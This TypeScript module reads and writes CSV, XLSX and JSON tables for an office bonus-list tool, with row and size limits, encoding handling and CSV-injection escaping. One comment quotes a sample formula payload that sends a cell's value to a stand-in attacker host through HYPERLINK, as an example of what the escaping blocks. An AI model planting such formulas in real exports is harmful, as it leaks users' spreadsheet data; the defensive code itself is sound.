// Spreadsheet files in and out: the office edits its target table and roster in Excel/WPS, and gets the
// bonus list back the same way. Reading returns plain rows keyed by header; validation is the domain's.
// Blank rows inside a table are kept as {} so that row numbers in error messages match the sheet.
import { mkdir, readFile, writeFile } from 'node:fs/promises';
import { dirname, extname } from 'node:path';
import { Readable } from 'node:stream';
import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { LIMITS } from '../domain/limits.js';

export type Row = Record<string, unknown>;

/** Named so a Temporal worker can list it among the non-retryable error types: a bad file stays bad. */
export class TableFileError extends Error {
  constructor(readonly file: string, readonly reason: string) {
    super(`表格文件有误 / bad table file ${file}: ${reason}`);
    this.name = 'TableFileError';
  }
}

const isBlank = (v: unknown) => v === undefined || v === null || (typeof v === 'string' && v.trim() === '');
const isoDate = (d: Date) => (d.getUTCHours() || d.getUTCMinutes() || d.getUTCSeconds() ? d.toISOString() : d.toISOString().slice(0, 10));

function trimTrailingBlank(rows: Row[]): Row[] {
  let n = rows.length;
  while (n > 0 && Object.values(rows[n - 1]!).every(isBlank)) n--;
  return rows.slice(0, n);
}

function checkHeaders(file: string, headers: string[], hasData: (col: number) => boolean): void {
  const seen = new Set<string>();
  headers.forEach((h, i) => {
    if (h === '' && hasData(i)) throw new TableFileError(file, `第 ${i + 1} 列有数据但没有表头 / column ${i + 1} has data but no header`);
    if (h !== '' && seen.has(h)) throw new TableFileError(file, `表头“${h}”出现两次 / header "${h}" appears twice`);
    seen.add(h);
  });
  if (seen.size === 0) throw new TableFileError(file, '第一行没有表头 / no header in the first row');
}

// Excel on a Chinese Windows saves "CSV" as GB18030 unless told "CSV UTF-8": accept both rather than
// hand the user mojibake or a cryptic refusal.
function decodeCsv(file: string, buf: Buffer): string {
  if (buf.subarray(0, 4).equals(Buffer.from('PK\x03\x04', 'latin1'))) {
    throw new TableFileError(file, '这是 Excel 文件，请改用 .xlsx 扩展名 / this is an Excel workbook: name it .xlsx');
  }
  const body = buf.subarray(0, 3).equals(Buffer.from([0xef, 0xbb, 0xbf])) ? buf.subarray(3) : buf;
  try {
    return new TextDecoder('utf-8', { fatal: true }).decode(body);
  } catch {
    return new TextDecoder('gb18030').decode(body);
  }
}

function readCsv(file: string, buf: Buffer): Row[] {
  let records: string[][];
  try {
    // `to_line`: one past the cap, so that a longer table is known to be too long without reading it all.
    records = parse(decodeCsv(file, buf), { relax_column_count: true, skip_empty_lines: false, to_line: LIMITS.tableRows + 2 });
  } catch (e) {
    if (e instanceof TableFileError) throw e;
    throw new TableFileError(file, `CSV 格式错误 / malformed CSV: ${(e as Error).message}`);
  }
  if (records.length > LIMITS.tableRows + 1) throw tooBig(file, 'rows', LIMITS.tableRows);
  if (records.some((r) => r.length > LIMITS.tableColumns)) throw tooBig(file, 'columns', LIMITS.tableColumns);
  const headers = (records[0] ?? []).map((h) => h.trim());
  const body = records.slice(1);
  checkHeaders(file, headers, (c) => body.some((r) => !isBlank(r[c])));
  const rows = body.map((r, i) => {
    if (r.slice(headers.length).some((v) => !isBlank(v))) {
      throw new TableFileError(file, `第 ${i + 2} 行的列数多于表头 / row ${i + 2} has more fields than the header`);
    }
    return Object.fromEntries(headers.flatMap((h, c) => (h === '' ? [] : [[h, r[c] ?? '']])));
  });
  return trimTrailingBlank(rows);
}

function cellValue(v: ExcelJS.CellValue): unknown {
  if (v === null || v === undefined) return undefined;
  if (v instanceof Date) return isoDate(v);
  if (typeof v !== 'object') return v;
  if ('richText' in v) return v.richText.map((t) => t.text).join('');
  if ('error' in v) return v.error;
  if ('result' in v || 'formula' in v || 'sharedFormula' in v) return cellValue((v as ExcelJS.CellFormulaValue).result ?? null);
  if ('text' in v) return cellValue(v.text as ExcelJS.CellValue); // hyperlink; its text may itself be rich
  return String(v);
}

/** More rows or columns than any real table: refused before the rest of the file is read. */
function tooBig(file: string, what: 'rows' | 'columns', max: number): TableFileError {
  return what === 'rows'
    ? new TableFileError(file, `行数过多（最多 ${max} 行）/ too many rows (at most ${max})`)
    : new TableFileError(file, `列数过多（最多 ${max} 列）/ too many columns (at most ${max})`);
}

// Streamed, so a workbook of millions of rows (a few MB zipped) is refused at the cap, not after
// gigabytes of parsing: ExcelJS's whole-workbook loader has no row limit.
// ExcelJS's stream reader now and then parses a worksheet before it has read the workbook part that
// our writer (and others) put last ("Cannot read properties of undefined (reading 'sheets')"), seen
// only under load: a workbook it cannot read is read once more before it is called invalid.
async function xlsxCells(file: string, buf: Buffer): Promise<unknown[][]> {
  try {
    return await xlsxCellsOnce(file, buf);
  } catch (e) {
    if (e instanceof TableFileError && e.reason.includes('(Cannot read properties')) return xlsxCellsOnce(file, buf);
    throw e;
  }
}

async function xlsxCellsOnce(file: string, buf: Buffer): Promise<unknown[][]> {
  const reader = new ExcelJS.stream.xlsx.WorkbookReader(Readable.from(buf), { sharedStrings: 'cache', styles: 'cache', hyperlinks: 'ignore', worksheets: 'emit', entries: 'ignore' });
  const cells: unknown[][] = [];
  try {
    for await (const ws of reader) {
      for await (const row of ws as AsyncIterable<ExcelJS.Row>) {
        if (row.number > LIMITS.tableRows + 1) throw tooBig(file, 'rows', LIMITS.tableRows);
        if (row.cellCount > LIMITS.tableColumns) throw tooBig(file, 'columns', LIMITS.tableColumns);
        const values: unknown[] = [];
        row.eachCell({ includeEmpty: true }, (cell, col) => { values[col - 1] = cellValue(cell.value); });
        cells[row.number - 1] = values;
      }
      break; // the first sheet only
    }
  } catch (e) {
    if (e instanceof TableFileError) throw e;
    throw new TableFileError(file, `不是有效的 .xlsx 文件 / not a valid .xlsx workbook (${(e as Error).message})`);
  }
  return Array.from(cells, (r) => r ?? []);
}

async function readXlsx(file: string, buf: Buffer): Promise<Row[]> {
  const cells = await xlsxCells(file, buf);
  if (cells.length === 0) throw new TableFileError(file, '工作簿中没有工作表 / the workbook has no sheet');
  const width = Math.max(...cells.map((r) => r.length));
  const headers = Array.from({ length: width }, (_, c) => String(cells[0]![c] ?? '').trim());
  const body = cells.slice(1);
  checkHeaders(file, headers, (c) => body.some((r) => !isBlank(r[c])));
  const rows = body.map((r) => {
    const row: Row = {};
    headers.forEach((h, c) => {
      const v = r[c];
      if (h !== '' && v !== undefined) row[h] = v;
    });
    return row;
  });
  return trimTrailingBlank(rows);
}

function readJson(file: string, text: string): Row[] {
  let data: unknown;
  try {
    data = JSON.parse(text.replace(/^\uFEFF/, ''));
  } catch (e) {
    throw new TableFileError(file, `JSON 格式错误 / malformed JSON: ${(e as Error).message}`);
  }
  if (!Array.isArray(data)) throw new TableFileError(file, '应为对象数组 / expected an array of objects');
  if (data.length > LIMITS.tableRows) throw tooBig(file, 'rows', LIMITS.tableRows);
  data.forEach((r, i) => {
    if (typeof r !== 'object' || r === null || Array.isArray(r)) {
      throw new TableFileError(file, `第 ${i + 1} 个元素不是对象 / element ${i + 1} is not an object`);
    }
  });
  return data as Row[];
}

/** Rows of a .csv (UTF-8 with or without BOM, or GB18030), .xlsx (first sheet) or .json (array of objects). */
export async function readTable(path: string): Promise<Row[]> {
  const ext = extname(path).toLowerCase();
  if (!['.csv', '.xlsx', '.json'].includes(ext)) {
    throw new TableFileError(path, `不支持的文件类型“${ext || '无扩展名'}”，请用 .csv、.xlsx 或 .json / unsupported file type, use .csv, .xlsx or .json`);
  }
  let buf: Buffer;
  try {
    buf = await readFile(path);
  } catch (e) {
    throw new TableFileError(path, `无法读取 / cannot read (${(e as NodeJS.ErrnoException).code ?? (e as Error).message})`);
  }
  if (buf.length > LIMITS.tableBytes) {
    throw new TableFileError(path, `文件过大（最多 ${LIMITS.tableBytes / 1024 / 1024} MB）/ too large (at most ${LIMITS.tableBytes / 1024 / 1024} MB)`);
  }
  if (ext === '.csv') return readCsv(path, buf);
  if (ext === '.xlsx') return readXlsx(path, buf);
  return readJson(path, buf.toString('utf8'));
}

function columnsOf(rows: readonly Row[]): string[] {
  return [...new Set(rows.flatMap((r) => Object.keys(r)))];
}

const plain = (v: unknown) => (v === null || v === undefined ? '' : v instanceof Date ? isoDate(v) : typeof v === 'object' ? JSON.stringify(v) : String(v));

/**
 * A text cell that a spreadsheet would take for a formula (=, +, -, @, or a tab or CR it skips before
 * one) gets a leading apostrophe, as OWASP advises against CSV injection: a rejection reason or a
 * roster name like =HYPERLINK("http://evil.example/?x="&A1) must stay text in Excel and WPS. Numbers
 * written as numbers cannot be formulas and stay as they are (a negative amount is still a number).
 * The one place for this: every CSV export goes through csvText.
 */
export function safeCell(v: unknown): string {
  const s = plain(v);
  return typeof v !== 'number' && /^[=+\-@\t\r]/.test(s) ? `'${s}` : s;
}

/** CSV text with a header row, every cell (headers too) through safeCell. No BOM: the caller adds it. */
export function csvText(columns: readonly string[], rows: readonly (readonly unknown[])[], opts: { crlf?: boolean } = {}): string {
  return stringify([columns, ...rows].map((r) => r.map(safeCell)), { ...(opts.crlf && { record_delimiter: 'windows' as const }) });
}

/** Excel reads a CSV as UTF-8 only with it; without it Chinese text opens as mojibake. */
export const UTF8_BOM = '\uFEFF';

/** UTF-8 with BOM, formulas neutralised (csvText). */
export async function writeCsv(path: string, rows: readonly Row[]): Promise<void> {
  const columns = columnsOf(rows);
  const text = csvText(columns, rows.map((r) => columns.map((c) => r[c])), { crlf: true });
  await mkdir(dirname(path), { recursive: true });
  await writeFile(path, `${UTF8_BOM}${text}`);
}

/** Display width in Excel columns: CJK characters take two. */
const widthOf = (s: string) => [...s].reduce((w, ch) => w + (/[\u2e80-\uffef]/.test(ch) ? 2 : 1), 0);

export async function writeXlsx(path: string, rows: readonly Row[], sheetName = 'Sheet1'): Promise<void> {
  const columns = columnsOf(rows);
  const wb = new ExcelJS.Workbook();
  // Excel refuses sheet names over 31 characters or with []:*?/\
  const ws = wb.addWorksheet(sheetName.replace(/[[\]:*?/\\]/g, '_').slice(0, 31) || 'Sheet1', { views: [{ state: 'frozen', ySplit: 1 }] });
  ws.columns = columns.map((c) => ({
    header: c, key: c,
    width: Math.min(60, Math.max(8, widthOf(c), ...rows.map((r) => widthOf(plain(r[c])))) + 2),
  }));
  ws.getRow(1).font = { bold: true };
  for (const r of rows) {
    const added = ws.addRow(columns.map((c) => {
      const v = r[c];
      return v === null || v === undefined ? null : v instanceof Date || typeof v !== 'object' ? v : JSON.stringify(v);
    }));
    added.eachCell((cell) => { if (cell.value instanceof Date) cell.numFmt = 'yyyy-mm-dd'; });
  }
  await mkdir(dirname(path), { recursive: true });
  await wb.xlsx.writeFile(path);
}

/** A column of a sheet: its header, and the Excel number format of its dates (default yyyy-mm-dd). */
export interface SheetColumn { header: string; numFmt?: string }
export interface Sheet { name: string; columns: readonly SheetColumn[]; rows: readonly (readonly unknown[])[] }

/**
 * A workbook of several sheets, each with a bold, frozen header row and columns as wide as their
 * content (at most 60). A Date cell is an Excel date shown in its column's format; text stays text
 * (a value that looks like a formula is a string cell, never evaluated).
 */
export async function xlsxWorkbook(sheets: readonly Sheet[]): Promise<Buffer> {
  const wb = new ExcelJS.Workbook();
  for (const sheet of sheets) {
    const ws = wb.addWorksheet(sheet.name.replace(/[[\]:*?/\\]/g, '_').slice(0, 31) || 'Sheet1', { views: [{ state: 'frozen', ySplit: 1 }] });
    const cellWidth = (v: unknown, c: SheetColumn) => widthOf(v instanceof Date ? c.numFmt ?? 'yyyy-mm-dd' : plain(v));
    ws.columns = sheet.columns.map((c, i) => ({
      header: c.header,
      width: Math.min(60, Math.max(8, widthOf(c.header), ...sheet.rows.map((r) => cellWidth(r[i], c))) + 2),
    }));
    ws.getRow(1).font = { bold: true };
    for (const r of sheet.rows) {
      const added = ws.addRow(r.map((v) => (v === null || v === undefined ? null : v instanceof Date || typeof v !== 'object' ? v : JSON.stringify(v))));
      added.eachCell((cell, col) => { if (cell.value instanceof Date) cell.numFmt = sheet.columns[col - 1]?.numFmt ?? 'yyyy-mm-dd'; });
    }
  }
  return Buffer.from(await wb.xlsx.writeBuffer());
}
